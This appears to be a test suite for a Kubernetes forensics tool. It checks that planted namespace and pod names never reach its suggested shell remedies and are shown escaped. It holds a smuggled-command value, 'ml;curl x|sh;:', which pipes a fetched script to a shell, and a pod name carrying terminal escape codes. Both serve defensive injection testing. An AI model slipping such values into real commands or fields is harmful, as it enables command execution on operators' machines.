"""Issue 27, evidence that becomes a command: a name planted on a node (a pod namespace ``ml;curl x|sh;:``,
a pod name holding ESC/CSI characters) never enters a suggested shell command; it is shown as data,
escaped, outside the commands. The node is the demo's sample, copied and planted, collected and
analysed by the real CLI; the reports are read back as written."""
from __future__ import annotations

import html
import json
import re
import shlex
import shutil
from pathlib import Path

import pytest
from hypothesis import example, given, settings, strategies as st

from forensics.findings.commands import GRAMMARS, Ev, command, held, lines, valid
from forensics.ops.cli import main
from forensics.ops.demo import sample

TASKS = "run/containerd/io.containerd.runtime.v2.task/k8s.io"
TRAINER = "6a1f0c2e9b7d3813b68a4258ad71d1bbe1c6ad7884d5b7cedd9e7747b59c4b15"   # pod ml/trainer-0
PLUGIN = "bc00548a5d0b852699602ab524e911dcaa2f1981c0538ac469491b00e8b32b2b"    # the device plugin's pod
EVIL_NS = "ml;curl x|sh;:"
EVIL_POD = "web\x1b[31m\x9b2J-0"      # ESC [ (CSI), and the 8-bit CSI 0x9b


@pytest.fixture(scope="module")
def planted(tmp_path_factory):
    """The sample node with the trainer pod's namespace and the plugin pod's name planted, collected
    and analysed; returns ``(analysis, report.md, report.html)``."""
    work = tmp_path_factory.mktemp("planted")
    with sample() as smp:
        root = work / "root"
        shutil.copytree(smp.root, root, symlinks=True)
        incidents = list(smp.incidents)
    for cid, key, value in ((TRAINER, "io.kubernetes.cri.sandbox-namespace", EVIL_NS),
                            (PLUGIN, "io.kubernetes.cri.sandbox-name", EVIL_POD)):
        p = root / TASKS / cid / "config.json"
        spec = json.loads(p.read_text())
        spec["annotations"][key] = value
        p.write_text(json.dumps(spec))
    argv = ["collect", "--root", str(root), "--out", str(work / "b")]
    for inc in incidents:
        argv += ["--incident", inc]
    assert main(argv) == 0
    assert main(["analyze", str(work / "b"), "--html", str(work / "r.html"), "--markdown", str(work / "r.md"),
                 "--json", str(work / "a.json")]) == 0
    return (json.loads((work / "a.json").read_text()), (work / "r.md").read_text(), (work / "r.html").read_text())


def _bad(text: str) -> bool:
    return any(s in text for s in ("curl", "\x1b", "\x9b", "web"))


def test_planted_names_enter_no_command_of_json_markdown_or_html(planted):
    a, md, page = planted
    names = {(r["namespace"], r["pod"]) for r in a["exposure"]["containers"]}
    assert (EVIL_NS, "trainer-0") in names and ("kube-system", EVIL_POD) in names  # the evidence read them
    remedies = a["exposure"]["remedies"]
    commands = [r["change"] for r in remedies] + a["headline"]["remedy"]["commands"]
    assert commands and not any(_bad(c) for c in commands)
    assert "kubectl delete pod -n gpu-operator nvidia-dcgm-exporter-x7k9q" in commands  # the honest pod still is
    blocks = re.findall(r"```sh\n(.*?)\n```", md, re.S)
    plan = a["exposure"]["remedy_plan"]  # the ticket carries the commands of the fix and what follows it
    assert len(blocks) >= len([plan["fix"]] * bool(plan["fix"]) + plan["then"]) and not any(_bad(b) for b in blocks)
    pres = [html.unescape(p) for p in re.findall(r'<pre class="mono">(.*?)</pre>', page, re.S)]
    assert len(pres) >= len(remedies) and not any(_bad(p) for p in pres)


def test_planted_names_are_shown_as_escaped_data(planted):
    a, md, page = planted
    [redo] = [r for r in a["exposure"]["remedies"] if r["what"].startswith("Recreate the containers")]
    ns_note = ("namespace 'ml;curl x|sh;:' is not a DNS-1123 label (a Kubernetes namespace): "
               "left out of the commands")
    pod_note = ("pod 'web\\x1b[31m\\x9b2J-0' is not a DNS-1123 subdomain (a Kubernetes pod name): "
                "left out of the commands")
    assert redo["held_back"] == [ns_note, pod_note] or redo["held_back"] == [pod_note, ns_note]
    assert f"Not in a command: {pod_note}." in a["headline"]["remedy"]["why"]
    assert "Not in a command: namespace 'ml;curl x\\|sh;:' is not a DNS-1123 label" in md  # Markdown-escaped |
    assert "Not in a command: pod 'web\\\\x1b\\[31m\\\\x9b2J-0'" in md
    assert "Not in a command: pod &#39;web\\x1b[31m\\x9b2J-0&#39;" in page
    for text in (md, page):  # no raw control character anywhere in the reports (tables, lists, notes)
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", text)


ARGV = ("kubectl", "delete", "pod", "-n")


NAMEISH = st.from_regex(r"[a-z0-9][-a-z0-9.]{0,20}", fullmatch=True)
PATHISH = st.from_regex(r"(/[A-Za-z0-9._+@-]{1,8}){1,3}", fullmatch=True)


@settings(max_examples=200, deadline=None)
@given(ns=st.one_of(st.text(), NAMEISH), pod=st.one_of(st.text(), NAMEISH), kind=st.sampled_from(sorted(GRAMMARS)),
       other=st.one_of(st.text(), NAMEISH, PATHISH), prefix=st.sampled_from(["", "--x="]))
@example(ns="ml", pod="trainer-0", kind="path", other="/run/x", prefix="--x=")
@example(ns=EVIL_NS, pod="trainer-0", kind="namespace", other="ml", prefix="")
def test_any_string_yields_a_command_that_parses_back_or_none(ns, pod, kind, other, prefix):
    line = command(*ARGV, Ev("namespace", ns), Ev("pod", pod), Ev(kind, other, prefix))
    if line is None:
        assert not (valid("namespace", ns) and valid("pod", pod) and valid(kind, other))
        assert held(Ev("namespace", ns), Ev("pod", pod), Ev(kind, other))
    else:
        assert shlex.split(line) == [*ARGV, ns, pod, prefix + other]
        assert not any(w.startswith("-") for w in (ns, pod)) and line.isascii() and line.isprintable()


@settings(max_examples=200, deadline=None)
@given(value=st.one_of(st.text(alphabet=st.characters(codec="ascii"), max_size=80), st.none(), st.integers(),
                       st.lists(st.text(max_size=3), max_size=2)))
def test_lines_of_any_value_hold_it_back_or_quote_it(value):
    cmds, bad = lines(["# authored", ("ls -l", Ev("path", value)), Ev("unit", value)])
    assert cmds[0] == "# authored"
    assert (len(cmds) == 2) == valid("path", value) and (not bad) == (valid("path", value) and valid("unit", value))
    if len(cmds) == 2:
        assert shlex.split(cmds[1]) == ["ls", "-l", value]


@pytest.mark.parametrize("kind,value,ok", [
    ("namespace", "kube-system", True), ("namespace", "a" * 63, True), ("namespace", "a" * 64, False),
    ("namespace", "ml\n", False), ("namespace", "-rf", False), ("namespace", "ML", False), ("namespace", "a.b", False),
    ("pod", "trainer-0.x", True), ("pod", "a" * 254, False), ("pod", "a..b", False), ("pod", "a;b", False),
    ("node", "gpu-a100-007.example", True), ("release", "nvdp", True), ("release", "a" * 54, False),
    ("container", "f" * 64, True), ("container", "web", True), ("container", "-rf", False),
    ("container", "..", False), ("container", "a b", False),
    ("unit", "snapd.service", True), ("unit", "session-4.scope", True), ("unit", "getty@tty1.service", True),
    ("unit", "-x.service", False), ("unit", "x.servic", False), ("unit", "a;b.service", False),
    ("path", "/run/nvidia/driver", True), ("path", "/", True), ("path", "/a/../b", False), ("path", "/a/", False),
    ("path", "//a", False), ("path", "rel/x", False), ("path", "/a,b", False), ("path", "/a=b", False),
    ("path", "/a b", False), ("pci", "0000:3b:00.0", True), ("pci", "0000:3b:00.0;x", False),
    ("namespace", None, False), ("pod", ["a"], False), ("path", 7, False),
])
def test_each_grammar(kind, value, ok):
    assert valid(kind, value) is ok
